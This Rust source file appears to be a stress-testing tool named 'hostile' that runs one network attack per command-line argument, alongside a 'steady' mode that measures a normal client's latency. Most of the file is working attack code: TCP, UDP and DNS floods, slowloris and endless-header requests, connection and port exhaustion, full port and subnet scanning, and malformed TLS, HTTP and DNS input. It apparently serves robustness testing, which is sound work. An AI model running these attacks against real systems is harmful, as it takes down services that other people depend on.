//! What a program that means harm does to a network: one attack for each name in its first argument.
//! Each says how far it has come and goes on until it is killed. `steady` is the one that means well,
//! and tells how it fares beside them.

use std::collections::BTreeMap;
use std::error::Error;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::thread::sleep;
use std::time::{Duration, Instant};

type Outcome = Result<(), Box<dyn Error>>;
type Act = fn(&[String]) -> Outcome;

const ACTS: &[(&str, Act)] = &[
    ("connections", connections),
    ("flood-dns", flood_dns),
    ("flood-tcp", flood_tcp),
    ("flood-udp", flood_udp),
    ("garbage", garbage),
    ("half", half),
    ("heads", heads),
    ("listeners", listeners),
    ("nibble", nibble),
    ("scan", scan),
    ("slowloris", slowloris),
    ("sockets", sockets),
    ("steady", steady),
    ("swallow", swallow),
];

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some((_, act)) = ACTS.iter().find(|(name, _)| args.first().is_some_and(|arg| arg == name))
    else {
        eprintln!("hostile: one of {:?}", ACTS.iter().map(|(name, _)| name).collect::<Vec<_>>());
        std::process::exit(2);
    };
    if let Err(error) = act(&args[1..]) {
        eprintln!("hostile: {error}");
        std::process::exit(1);
    }
}

fn address(args: &[String], at: usize) -> Result<SocketAddr, Box<dyn Error>> {
    let text = args.get(at).ok_or_else(|| format!("argument {} is missing", at + 1))?;
    Ok(text.parse().map_err(|error| format!("{text}: {error}"))?)
}

fn count(args: &[String], at: usize) -> Result<usize, Box<dyn Error>> {
    let text = args.get(at).ok_or_else(|| format!("argument {} is missing", at + 1))?;
    Ok(text.parse().map_err(|error| format!("{text}: {error}"))?)
}

/// Numbers that nobody expects; xorshift.
struct Dice(u64);

impl Dice {
    fn new() -> Self {
        Self(0x9e37_79b9_7f4a_7c15)
    }

    fn roll(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.roll() % bound as u64).unwrap_or_default()
    }

    fn bytes(&mut self, count: usize) -> Vec<u8> {
        (0..count).map(|_| self.roll().to_le_bytes()[0]).collect()
    }
}

/// Tries for so many; says how many came and why no more, and keeps them.
fn hoard<T>(what: &str, wanted: usize, mut one: impl FnMut() -> io::Result<T>) -> Vec<T> {
    let begin = Instant::now();
    let (mut held, mut errors) = (Vec::new(), BTreeMap::<String, usize>::new());
    for _ in 0..wanted {
        match one() {
            Ok(it) => held.push(it),
            Err(error) => *errors.entry(error.to_string()).or_default() += 1,
        }
    }
    let millis = begin.elapsed().as_millis();
    println!("{} {what} in {millis} ms, then {errors:?}", held.len());
    held
}

/// Until it is killed; shows that it goes on.
fn hold<T>(held: Vec<T>) -> Outcome {
    for second in 0_u64.. {
        println!("holding {} for {second} s", held.len());
        sleep(Duration::from_secs(1));
    }
    Ok(())
}

/// A server that accepts more slowly than we come has its backlog full now and then.
fn dial(to: SocketAddr) -> io::Result<TcpStream> {
    for _ in 0..5000 {
        match TcpStream::connect(to) {
            Err(error) if error.kind() == ErrorKind::TimedOut => sleep(Duration::from_millis(2)),
            answer => return answer,
        }
    }
    Err(ErrorKind::TimedOut.into())
}

/// ADDRESS N: opens so many connections and keeps them.
fn connections(args: &[String]) -> Outcome {
    let to = address(args, 0)?;
    hold(hoard("connections", count(args, 1)?, || dial(to)))
}

/// N: listens at so many ports.
fn listeners(args: &[String]) -> Outcome {
    let any = (Ipv4Addr::UNSPECIFIED, 0);
    hold(hoard("listeners", count(args, 0)?, || TcpListener::bind(any)))
}

/// N: binds so many sockets for datagrams.
fn sockets(args: &[String]) -> Outcome {
    let any = (Ipv4Addr::UNSPECIFIED, 0);
    hold(hoard("sockets", count(args, 0)?, || UdpSocket::bind(any)))
}

/// ADDRESS: all of its ports; port 80 of the 256 addresses around it, and of 256 Services.
fn scan(args: &[String]) -> Outcome {
    let SocketAddr::V4(peer) = address(args, 0)? else { return Err("not of IPv4".into()) };
    let patience = Duration::from_millis(1);
    for round in 1.. {
        let mut found = BTreeMap::<String, usize>::new();
        let mut knock = |to: SocketAddr| {
            let answer = match TcpStream::connect_timeout(&to, patience) {
                Ok(_) => "open".to_owned(),
                Err(error) => format!("{:?}", error.kind()),
            };
            *found.entry(answer).or_default() += 1;
        };
        for port in 1..=u16::MAX {
            knock(SocketAddr::new((*peer.ip()).into(), port));
        }
        let [a, b, c, _] = peer.ip().octets();
        for last in 0..=u8::MAX {
            knock(SocketAddr::from(([a, b, c, last], 80)));
            knock(SocketAddr::from(([10, 43, 0, last], 80)));
        }
        println!("scan {round}: {found:?}");
    }
    Ok(())
}

/// ADDRESS N: writes to so many connections as fast as they take it.
fn flood_tcp(args: &[String]) -> Outcome {
    let (to, wanted) = (address(args, 0)?, count(args, 1)?);
    let mut held = hoard("connections", wanted, || {
        let stream = dial(to)?;
        stream.set_nonblocking(true)?;
        Ok(stream)
    });
    let chunk = vec![0x5a; 256 * 1024];
    let mut total = 0_u64;
    for round in 1_u64.. {
        let mut refused = 0;
        for stream in &mut held {
            match stream.write(&chunk) {
                Ok(written) => total += written as u64,
                Err(_) => refused += 1,
            }
        }
        if round.is_power_of_two() || round % 1000 == 0 {
            println!("flood {round}: {total} bytes, {refused} take nothing");
        }
    }
    Ok(())
}

/// ADDRESS N: fills so many connections with large pieces; whoever swallows may read all but a little.
fn nibble(args: &[String]) -> Outcome {
    let (to, wanted) = (address(args, 0)?, count(args, 1)?);
    let mut held = hoard("connections", wanted, || dial(to));
    let chunk = vec![0x5a; 256 * 1024];
    let mut total = 0_u64;
    for stream in &mut held {
        stream.set_nonblocking(true)?;
        total += stream.write(&chunk).unwrap_or(0) as u64;
    }
    println!("nibble: {total} bytes");
    hold(held)
}

/// ADDRESS: datagrams of all sizes, as fast as they go.
fn flood_udp(args: &[String]) -> Outcome {
    let (to, mut dice) = (address(args, 0)?, Dice::new());
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    let bytes = dice.bytes(65_507);
    for round in 1_u64.. {
        let length = dice.below(1500);
        let length = if round % 64 == 0 { bytes.len() } else { length };
        // What is refused is tried again.
        let _ = socket.send_to(&bytes[..length], to);
        if round.is_power_of_two() {
            println!("flood {round}");
        }
    }
    Ok(())
}

/// ADDRESS: questions for names that do not exist, inside the cluster and outside, and garbage.
fn flood_dns(args: &[String]) -> Outcome {
    let (to, mut dice) = (address(args, 0)?, Dice::new());
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    for round in 1_u64.. {
        let name = format!("n{:x}", dice.roll());
        let message = match round % 4 {
            0 => question(&[&name, "default", "svc", "cluster", "local"], dice.roll()),
            1 => question(&[&name, "example", "invalid"], dice.roll()),
            2 => dice.bytes(40),
            _ => {
                let mut message = question(&[&name], dice.roll());
                let at = dice.below(message.len());
                message[at] ^= 0xff;
                message
            }
        };
        // What is refused is tried again.
        let _ = socket.send_to(&message, to);
        if round.is_power_of_two() {
            println!("flood {round}");
        }
    }
    Ok(())
}

fn question(labels: &[&str], id: u64) -> Vec<u8> {
    let [high, low, ..] = id.to_be_bytes();
    let mut message = vec![high, low, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in labels {
        message.push(u8::try_from(label.len()).unwrap_or(63));
        message.extend(label.bytes());
    }
    message.extend([0, 0, 1, 0, 1]);
    message
}

/// ADDRESS...: says what makes no sense to each in turn; some of it begins like TLS, HTTP/1, HTTP/2 or a
/// DNS message by TCP.
fn garbage(args: &[String]) -> Outcome {
    let targets = (0..args.len()).map(|at| address(args, at)).collect::<Result<Vec<_>, _>>()?;
    let mut dice = Dice::new();
    let begins: [&[u8]; 5] = [
        b"",
        &[22, 3, 1, 2, 0, 1],
        b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        &[0xff, 0xff, 0, 0],
    ];
    for round in 1_u64.. {
        let mut errors = 0;
        for to in &targets {
            let begin = begins[dice.below(begins.len())];
            let length = dice.below(20_000);
            errors += usize::from(speak(*to, begin, &dice.bytes(length)).is_err());
        }
        if round.is_power_of_two() {
            println!("garbage {round}: {errors} of {} fail", targets.len());
        }
    }
    Ok(())
}

fn speak(to: SocketAddr, begin: &[u8], rest: &[u8]) -> io::Result<()> {
    let mut stream = TcpStream::connect(to)?;
    stream.set_read_timeout(Some(Duration::from_millis(10)))?;
    stream.write_all(begin)?;
    stream.write_all(rest)?;
    let mut answer = [0; 1024];
    stream.read(&mut answer).map(drop)
}

/// ADDRESS: connections that are closed in every odd way.
fn half(args: &[String]) -> Outcome {
    let to = address(args, 0)?;
    let mut kept = Vec::new();
    for round in 1_u64.. {
        let Ok(mut stream) = TcpStream::connect(to) else {
            // As many as we may have there.
            kept.clear();
            continue;
        };
        // Either side may have hung up by now.
        let _ = match round % 6 {
            0 => stream.shutdown(Shutdown::Write),
            1 => stream.shutdown(Shutdown::Read),
            2 => stream.write_all(b"GET / HT"),
            3 => stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
            4 => stream.write_all(b"GET").and_then(|()| stream.shutdown(Shutdown::Both)),
            _ => Ok(()),
        };
        if round % 8 == 0 {
            kept.push(stream);
        }
        if kept.len() > 500 {
            kept.clear();
        }
        if round.is_power_of_two() {
            println!("half {round}");
        }
    }
    Ok(())
}

/// ADDRESS N: so many requests that never end, a byte at a time.
fn slowloris(args: &[String]) -> Outcome {
    let (to, wanted) = (address(args, 0)?, count(args, 1)?);
    let mut held = hoard("connections", wanted, || {
        let mut stream = dial(to)?;
        stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")?;
        Ok(stream)
    });
    for round in 1_u64.. {
        let before = held.len();
        held.retain_mut(|stream| stream.write_all(b"a").is_ok());
        println!("slowloris {round}: {} of {before} are open", held.len());
        sleep(Duration::from_secs(1));
    }
    Ok(())
}

/// ADDRESS N BYTES: so many requests of so large a head, which never ends.
fn heads(args: &[String]) -> Outcome {
    let (to, wanted, bytes) = (address(args, 0)?, count(args, 1)?, count(args, 2)?);
    let mut head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ".to_vec();
    head.resize(bytes, b'a');
    hold(hoard("heads", wanted, || {
        let mut stream = dial(to)?;
        stream.write_all(&head)?;
        Ok(stream)
    }))
}

/// ADDRESS BYTES: accepts all who come, reads so many bytes of each and no more.
fn swallow(args: &[String]) -> Outcome {
    let (listener, bytes) = (TcpListener::bind(address(args, 0)?)?, count(args, 1)?);
    listener.set_nonblocking(true)?;
    println!("listening");
    let (mut full, mut hungry) = (Vec::new(), Vec::new());
    let mut buffer = vec![0; bytes.max(1)];
    loop {
        match listener.accept() {
            Ok((stream, _)) if bytes > 0 => {
                stream.set_nonblocking(true)?;
                hungry.push((stream, bytes));
                continue;
            }
            Ok((stream, _)) => {
                full.push(stream);
                continue;
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => println!("{} accepted: {error}", full.len() + hungry.len()),
        }
        for (stream, left) in &mut hungry {
            *left -= stream.read(&mut buffer[..*left]).unwrap_or(0);
        }
        full.extend(hungry.extract_if(.., |(_, left)| *left == 0).map(|(stream, _)| stream));
        sleep(Duration::from_millis(5));
    }
}

/// ADDRESS: one request after another, 20 ms apart, each on a connection of its own; tells of every 25.
fn steady(args: &[String]) -> Outcome {
    let to = address(args, 0)?;
    loop {
        let (mut times, mut failures) = (Vec::new(), Vec::new());
        for _ in 0..25 {
            sleep(Duration::from_millis(20));
            let begin = Instant::now();
            match request(to) {
                Ok(()) => times.push(begin.elapsed()),
                Err(error) => failures.push(error.to_string()),
            }
        }
        times.sort_unstable();
        let median = times.get(times.len() / 2).copied().unwrap_or_default().as_micros();
        let worst = times.last().copied().unwrap_or_default().as_micros();
        println!("steady: {} failed {failures:?} median {median} worst {worst}", failures.len());
    }
}

fn request(to: SocketAddr) -> io::Result<()> {
    let mut stream = TcpStream::connect(to)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")?;
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer)?;
    match answer.starts_with(b"HTTP/1.1 200") {
        true => Ok(()),
        false => Err(ErrorKind::InvalidData.into()),
    }
}
